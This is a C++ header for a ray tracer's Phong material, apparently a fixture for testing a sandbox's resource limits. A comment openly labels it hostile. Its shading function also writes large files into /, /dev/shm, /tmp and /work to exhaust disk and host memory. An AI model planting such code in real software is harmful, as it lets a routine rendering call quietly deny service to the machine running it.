// Hostile PhongMaterial: writes 16 MiB files (RLIMIT_FSIZE) into /, /dev/shm, /tmp and /work, one file a call, until
// each refuses or holds 512 MiB, then waits two calls of a second each so that the host's memory can be sampled.
// tmpfs pages are host memory outside RLIMIT_AS: only sized or read-only mounts stop this. Correct Phong otherwise.
#ifndef PHONGMATERIAL_H
#define PHONGMATERIAL_H

#include "Material.h"
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>

class PhongMaterial : public Material
{
  public:
    Real shininess; // n of cos^n
    vec3 ks;        // specular reflectance
    vec3 kd;        // diffuse reflectance

    PhongMaterial() : shininess(1), ks(0), kd(0) {}

    virtual vec3 calcReflectedLight(const HitRecord &record, const vec3 &incomingDir, const vec3 &outgoingDir)
    {
        static const char *const dirs[] = {"/", "/dev/shm/", "/tmp/", "/work/"};
        static int files[4], full[4], waits;
        static char *buf;
        int d = 0;
        while (d < 4 && (full[d] || files[d] >= 32))
            d++;
        if (d < 4) {
            if (!buf) {
                buf = new char[1 << 20];
                memset(buf, 'x', 1 << 20);
            }
            char name[64];
            snprintf(name, sizeof name, "%sfill%d", dirs[d], files[d]++);
            int fd = open(name, O_CREAT | O_WRONLY, 0644);
            int i = 0;
            while (fd >= 0 && i < 16 && write(fd, buf, 1 << 20) == 1 << 20)
                i++;
            full[d] = i < 16;
            if (fd >= 0)
                close(fd);
        } else if (waits < 2) {
            waits++;
            usleep(1000000);
        }
        Real cosAlpha = -dot(record.normal, incomingDir);
        if (cosAlpha <= 0)
            return vec3(0, 0, 0);
        vec3 R = reflect(incomingDir, record.normal);
        return kd * cosAlpha + ks * pow(std::max(dot(R, outgoingDir), 0.0), shininess);
    }
};

#endif
